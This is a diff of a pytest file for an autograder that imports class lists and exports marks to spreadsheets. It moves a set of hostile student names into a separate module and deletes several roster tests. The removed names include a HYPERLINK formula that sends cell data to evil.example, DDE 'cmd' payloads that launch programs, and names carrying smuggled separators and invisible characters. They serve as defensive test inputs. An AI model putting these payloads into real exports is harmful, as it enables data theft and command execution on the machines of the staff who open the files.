@@ -8,14 +8,13 @@ from __future__ import annotations
 import csv
 import dataclasses
 import datetime as dt
-import io
 import shutil
-from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 import report_samples as samples
 from click.testing import CliRunner
+from hostile_names import FORMULAS, HEAD, NAMES, READERS, SIGNS, as_written, people, steers
 
 from autograder.cli import main
 from autograder.course import load_course
@@ -27,98 +26,7 @@ from autograder.roster import read_roster
 ROOT = Path(__file__).parents[2]
 LAB = "week03/lab"
 PLATFORMS = ["canvas", "moodle", "gradescope", "csv"]
-SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
-HEAD = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
 MARKS = {"jdoe": 1.0, "mallory": 2.0, "zoe": 3.0}  # for the written answer, so that everybody's mark is another: 22 and this
-
-
-# ------------------------------------------------------------------------------------------------------ as others read
-
-
-@dataclass(frozen=True)
-class Reader:
-    """A spreadsheet as far as it matters here: what separates cells, and that quotes count only where a cell begins."""
-
-    separators: str
-
-    def rows(self, text: str) -> list[list[str]]:
-        rows, row, cell, at, quoted = [], [], "", 0, False
-        while at < len(text):
-            c = text[at]
-            if quoted:
-                if text.startswith('""', at):
-                    cell, at = cell + '"', at + 1
-                elif c == '"':
-                    quoted = False
-                else:
-                    cell += c
-            elif c == '"' and not cell:
-                quoted = True
-            elif c in self.separators or c in "\r\n":
-                row, cell = [*row, cell], ""
-                if c in "\r\n":
-                    rows, row = [*rows, row], []
-            else:
-                cell += c
-            at += 1
-        return [r for r in [*rows, [*row, cell]] if any(r)]
-
-    def live(self, text: str) -> list[str]:
-        """Cells that it would compute."""
-        return [cell for row in self.rows(text) for cell in row if _computed(cell)]
-
-
-def _computed(cell: str) -> bool:
-    text = cell.lstrip()
-    return text.startswith(SIGNS) and text != "-" and not text.lstrip("+-").replace(".", "", 1).isdigit()
-
-
-READERS = {"Excel": Reader(","), "Excel in Germany": Reader(";"), "LibreOffice": Reader(",;\t"), "pasted": Reader("\t")}
-
-
-def as_written(rows: list[list[str]]) -> str:
-    """What most programs write."""
-    out = io.StringIO()
-    csv.writer(out).writerows(rows)
-    return out.getvalue()
-
-
-FORMULAS = {
-    "a formula": '=HYPERLINK("http://evil.example/"&A1,"see here")',
-    "a sum": "+1+cmd|' /C calc'!A0",
-    "a difference": "-2+3+cmd|' /C calc'!A0",
-    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "a wide sign": "＝1+1",
-    "blanks first": "  =1+1",
-    "a tab first": "\t=1+1",
-    "a return first": "\r=1+1",
-    "behind a semicolon": "Mallory;=1+1",
-    "behind a semicolon and blanks": "Mallory;  =1+1",
-    "behind a semicolon and quotes": 'Mallory;"=1+1',
-    "behind a tab": "Mallory\t@SUM(1)",
-    "behind a line break": "Mallory\n=1+1",
-    "behind two semicolons": "x;;+1+cmd|' /C calc'!A0",
-}
-NAMES = {
-    **FORMULAS,
-    "cells of marks": "Mallory;graded;25;25;25;25",
-    "a quote that opens": '"Mallory',
-    "quotes within": 'Mall"ory",25,"',
-    "a line of its own": 'Mallory\r\n"Doe, Jane",5001,1000001,jdoe,A,0',
-    "a NUL": "Mal\x00lory",
-    "text that runs backwards": "Mal\u202e52\u202c",
-    "characters that nobody sees": "\u200bMal\u2060lory\ufeff",
-    "the row of full marks": "Points Possible",
-    "the row of full marks within": "Eve (Points   Possible) Mallory",
-    "an essay": "Mallory " * 20_000,
-    "letters under letters": "M" + "\u0301\u0316" * 4000,
-    "a neighbour's login": "jdoe",
-    "a neighbour's number": "1000001",
-    "a neighbour's name": "Jane Doe",
-    "a mark of the platform": "Manual Posting",
-    "an empty name": "\u200b \u200b",
-}
-assert all(_computed(c) for n in FORMULAS.values() for r in READERS.values() for c in r.live(as_written([["x", n, "y"]])))
 
 
 @pytest.mark.parametrize("attack", FORMULAS)
@@ -145,26 +53,12 @@ def handed_in(root: Path, student: str):
     return dataclasses.replace(report, submission=dataclasses.replace(report.submission, submitted_at=when.isoformat()))
 
 
-def people(name: str, login: str = "mallory") -> list[list[str]]:
-    """A class list in Canvas's form, Mallory between two others."""
-    return [
-        HEAD,
-        ["Doe, Jane", "5001", "1000001", "jdoe", "A"],
-        [name, "5003", "1000003", login, "A"],
-        ["O'Brien, Zoë", "5002", "0000007", "zoe", "A"],
-    ]
-
-
 def run(root: Path, *words: object, monkeypatch) -> str:
     monkeypatch.chdir(root)
     done = CliRunner().invoke(main, [str(w) for w in words])
     assert done.exception is None or isinstance(done.exception, SystemExit), done.output
     assert done.exit_code in (0, 3), done.output
     return done.output
-
-
-def steers(text: str) -> bool:
-    return any(c in text for c in "\x1b\x00\u202e\u2060\u200b\r")
 
 
 class TestNamesInNewFiles:
@@ -306,102 +200,7 @@ class TestTemplates:
         assert marks == {1: "7", 2: "7"} and "rows 2 and 3 of theirs.csv may be theirs" in said
 
 
-class TestLists:
-    """What a class list makes of a name, through `read_roster` and its errors."""
-
-    @pytest.fixture
-    def roster(self, tmp_path):
-        def read(rows: list[list[str]] | bytes):
-            data = rows if isinstance(rows, bytes) else as_written(rows).encode()
-            (tmp_path / "list.csv").write_bytes(data)
-            return read_roster(tmp_path / "list.csv")
-
-        return read
-
-    @pytest.mark.parametrize("attack", NAMES)
-    def test_the_neighbours_are_found_by_everything_that_is_theirs(self, roster, attack):
-        found = roster(people(NAMES[attack]))
-        for keys in ([("any", "jdoe")], [("canvas", "5001")], [("any", "1000001")], [("login", "jdoe"), ("any", "jdoe")],
-                     [("login", "zoe")], [("sis", "0000007")], [("name", "O'Brien, Zoë")]):  # fmt: skip
-            person = found.find(keys)
-            assert person is not None and person.student == ("jdoe" if "5001" in person.keys.values() else "zoe"), keys
-        jane = found.find([("name", "Jane Doe")])
-        assert jane is None if attack == "a neighbour's name" else jane.student == "jdoe"
-
-    def test_the_control_a_name_would_have_been_taken_for_an_id(self, roster):
-        """Both are in the same column of keys where names and ids are not kept apart."""
-        found = roster(people("jdoe"))
-        assert [p.student for p in found.people if "jdoe" in (p.student, p.name)] == ["jdoe", "mallory"]
-
-    def test_ids_that_differ_in_case_or_width_are_each_their_own(self, roster):
-        found = roster([["student", "sid"], ["jdoe", "1"], ["JDOE", "2"], ["ｊｄｏｅ", "3"]])
-        assert [found.find([("any", i)]).student for i in ("jdoe", "JDOE", "ｊｄｏｅ")] == ["jdoe", "JDOE", "ｊｄｏｅ"]
-        assert found.find([("any", "Jdoe")]) is None
-
-    def test_the_same_id_but_for_what_nobody_sees_is_refused_in_one_line(self, roster):
-        from autograder.errors import CourseError
-
-        with pytest.raises(CourseError, match="by all that can be seen") as caught:
-            roster([["student"], ["jdoe"], ["jd\u200boe"]])
-        assert len(str(caught.value)) < 400
-
-    def test_a_name_that_is_an_id_never_keeps_its_owner_off_the_list(self, roster):
-        for rows in ([["jdoe", "Jane"], ["", "jdoe"]], [["", "jdoe"], ["jdoe", "Jane"]]):
-            found = roster([["student", "name"], *rows])
-            assert [p.name for p in found.people] == ["Jane"] and "its name is the id of line" in found.problems[0]
-
-    def test_a_quote_that_opens_swallows_nobody(self, roster):
-        from autograder.errors import CourseError
-
-        data = b'student,name\njdoe,Jane\nmallory,"Mallory\nzoe,Zoe\nali,Ali\n'
-        assert len(list(csv.reader(io.StringIO(data.decode())))) == 3, "the control: csv reads it without a word"
-        with pytest.raises(CourseError, match="line 3: the quote that opens here is never closed"):
-            roster(data)
-
-    def test_one_line_in_another_character_set_changes_no_name_of_others(self, roster):
-        data = "student,name\nzoe,Zoë Núñez\nali,Ångström\n".encode() + b"mallory,M\xe9chant\n"
-        assert "Ã" in data.decode("cp1252"), "the control: what all names become where one line decides"
-        for mark in (b"", b"\xef\xbb\xbf"):
-            found = roster(mark + data)
-            assert [p.name for p in found.people][:2] == ["Zoë Núñez", "Ångström"]
-            assert any("but for line 4" in note for note in found.notes)
-
-    def test_bytes_that_are_no_text_go_back_as_they_were(self, tmp_path):
-        data = "student,name,points\nzoe,Zoë,\nali,Åke,\n".encode() + b"mallory,M\xe9,7\r\n"
-        (tmp_path / "t.csv").write_bytes(data)
-        assert read_sheet(tmp_path / "t.csv").data() == data
-
-    @pytest.mark.parametrize("inside", [b"\x00", b"\xef\xbb\xbf", "\u202e".encode(), b"\x1b[2J", b"\x08\x08"])
-    def test_what_is_no_letter_costs_nobody_the_list(self, roster, inside):
-        rows = b"student,name\n" + b"".join(b"s%d,Student %d\n" % (n, n) for n in range(40))
-        found = roster(rows + b"mal" + inside + b"lory,Mal" + inside + b"lory\n")
-        assert len(found.people) == 41 and not steers("".join(p.student for p in found.people) + "".join(found.problems))
-
-    def test_fields_without_end(self, roster):
-        """A name of megabytes costs the time of reading it, and an id of that length is nobody's."""
-        long = "\u0301\u0316" * 500_000
-        found = roster([["student", "name", "email"], ["jdoe", long, "j@x"], [long, "x", "m@x"], ["zoe", "Zoë", "=" * 10**6]])
-        assert [p.student for p in found.people] == ["jdoe", "zoe"] and "more than 200 characters" in found.problems[0]
-
-    def test_patterns_of_moodles_tables_take_one_pass_over_a_cell(self, roster):
-        long = "a" * 100_000
-        rows = [["Identifier", "b", "c", "d", "e", "f", "g"], *([f"{long}{n}x", "a@" + "." * 90_000, *"-----"] for n in range(3))]
-        with pytest.raises(Exception, match=r"same id|identifies students|lists nobody"):
-            roster(rows)
-
-    def test_columns_twice_are_told_and_the_first_counts(self, roster):
-        found = roster([["student", "email", "Student", "E-Mail"], ["jdoe", "j@x", "mallory", "m@x"]])
-        assert found.people[0].student == "jdoe" and "two columns are called 'student'" in found.problems[0]
-
-    def test_one_odd_name_does_not_decide_what_a_column_is(self, roster):
-        """Moodle's participants in a language that is not known: by what nearly all cells look like."""
-        head = ["Etunimi X", "Sukunimi X", "Laji", "Osoite"]
-        rows = [head, *(["Aino", f"Järvi {c}", "", f"{c}@x.example"] for c in "abcdefgh")]
-        odd = ["M4ll0ry", "x@y.zz", "jane@uni.example", "mallory@x.example"]
-        found = roster([*rows, odd])
-        assert [p.student for p in found.people] == [*(f"{c}@x.example" for c in "abcdefgh"), "mallory@x.example"]
-        assert found.people[0].sortable == "Järvi a, Aino"
-
+class TestMarksByHand:
     def test_marks_by_hand_find_ids_before_names(self, graded, tmp_path, monkeypatch):
         root = tmp_path / "course"
         shutil.copytree(graded, root)
